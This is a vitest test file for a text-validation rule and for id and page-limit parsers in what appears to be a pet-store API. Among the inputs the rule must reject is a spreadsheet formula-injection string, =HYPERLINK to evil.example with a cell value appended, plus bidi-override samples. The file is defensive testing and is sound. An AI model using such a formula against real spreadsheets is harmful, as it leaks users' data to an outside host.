/** The shared text rule (src/text.ts) and the decimal formats of ids and limits. */
import { describe, expect, it } from "vitest";
import {
  ApiKeyCreate,
  AuditLogQuery,
  CategoryName,
  humanText,
  NewPet,
  PageLimit,
  PetIdParam,
  PetName,
  PetSearch,
  UserName,
} from "../src/index.ts";

const messageOf = (result: { success: boolean; error?: { issues: { message: string }[] } }) =>
  result.success ? undefined : result.error?.issues.map((i) => i.message);

describe("humanText", () => {
  const name = humanText({ max: 10 });

  it("NFC-normalises and trims", () => {
    expect(name.parse("  Cafe\u0301 ")).toBe("Caf\u00e9");
    expect(name.parse("\u00a0Rex\u3000")).toBe("Rex");
    expect(name.parse("\u2028Rex\u2029")).toBe("Rex");
    expect(name.parse("\u{1F415} Rex")).toBe("\u{1F415} Rex");
    expect(name.parse("ZW\u200Bsp")).toBe("ZW\u200Bsp");
  });

  it.each([
    ["a\u0000b", "must not contain control characters"],
    ["a\tb", "must not contain control characters"],
    ["line\nbreak", "must not contain control characters"],
    ["\u0085x", "must not contain control characters"],
    ["\u007fx", "must not contain control characters"],
    ["\u202Eevil", "must not contain bidirectional control characters"],
    ["a\u2066b\u2069", "must not contain bidirectional control characters"],
    ["Rex\u2028Fido", "must not contain line or paragraph separators"],
    ['=HYPERLINK("https://evil.example/?\u2028"&A1)', "must not contain line or paragraph separators"],
    ["Rex\u2029Fido", "must not contain line or paragraph separators"],
    ["Rex\u{E0001}", "must not contain tag characters"],
    ["\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}", "must not contain tag characters"],
    ["a\u{E0020}b", "must not contain tag characters"],
    ["a\u{E0000}", "must not contain tag characters"],
    ["a\uD800", "must be valid Unicode text"],
    ["", "must not be empty"],
    ["   ", "must not be empty"],
    ["\u200B\u200B", "must contain a visible character"],
    ["\u2060", "must contain a visible character"],
    ["\u3164", "must contain a visible character"],
    ["\u0301", "must contain a visible character"],
    ["x".repeat(11), "must be at most 10 characters"],
    [42, "must be a string"],
  ])("refuses %j with one message: %s", (value, message) => {
    expect(messageOf(name.safeParse(value))).toEqual([message]);
  });

  it("counts the length after normalisation", () => {
    expect(name.parse("e\u0301".repeat(10))).toBe("\u00e9".repeat(10));
  });

  it("may accept an empty value (search boxes)", () => {
    const search = humanText({ max: 10, allowEmpty: true });
    expect(search.parse("  ")).toBe("");
    expect(messageOf(search.safeParse("\u200B"))).toEqual(["must contain a visible character"]);
    expect(messageOf(search.safeParse("\u0000"))).toEqual(["must not contain control characters"]);
  });

  it("is the rule of every human-entered name and search", () => {
    for (const schema of [PetName, CategoryName, UserName]) {
      expect(schema.safeParse("a\u0000").success).toBe(false);
      expect(schema.safeParse("\u202Ex").success).toBe(false);
      expect(schema.safeParse("a\u2028b").success).toBe(false);
      expect(schema.safeParse("a\u2029b").success).toBe(false);
      expect(schema.safeParse("a\u{E0041}b").success).toBe(false);
    }
    expect(NewPet.safeParse({ name: "\u200B", categoryId: 1 }).success).toBe(false);
    expect(ApiKeyCreate.safeParse({ name: "\u0000", plan: "free" }).success).toBe(false);
    expect(PetSearch.safeParse({ query: "a\u0000" }).success).toBe(false);
    expect(PetSearch.safeParse({ query: "a\u2028b" }).success).toBe(false);
    expect(PetSearch.parse({ query: "" }).query).toBe("");
    expect(AuditLogQuery.safeParse({ actor: "user:\u0000" }).success).toBe(false);
    expect(AuditLogQuery.safeParse({ entityId: "\u0000" }).success).toBe(false);
  });
});

describe("decimal ids and limits", () => {
  it.each(["1", "42", "9223372036854775807"])("accepts petId %s", (id) => {
    expect(PetIdParam.parse(id)).toBe(BigInt(id));
  });
  it.each(["0", "01", "007", "0000000000000000001", "9223372036854775808", "+1", "1e3", " 1"])(
    "refuses petId %j",
    (id) => {
      expect(PetIdParam.safeParse(id).success).toBe(false);
    },
  );
  it.each(["1", "20", "100"])("accepts limit %s", (limit) => {
    expect(PageLimit.parse(limit)).toBe(Number(limit));
  });
  it.each(["0", "00", "01", "0100", "101", "-1", "1.0"])("refuses limit %j", (limit) => {
    expect(PageLimit.safeParse(limit).success).toBe(false);
  });
});
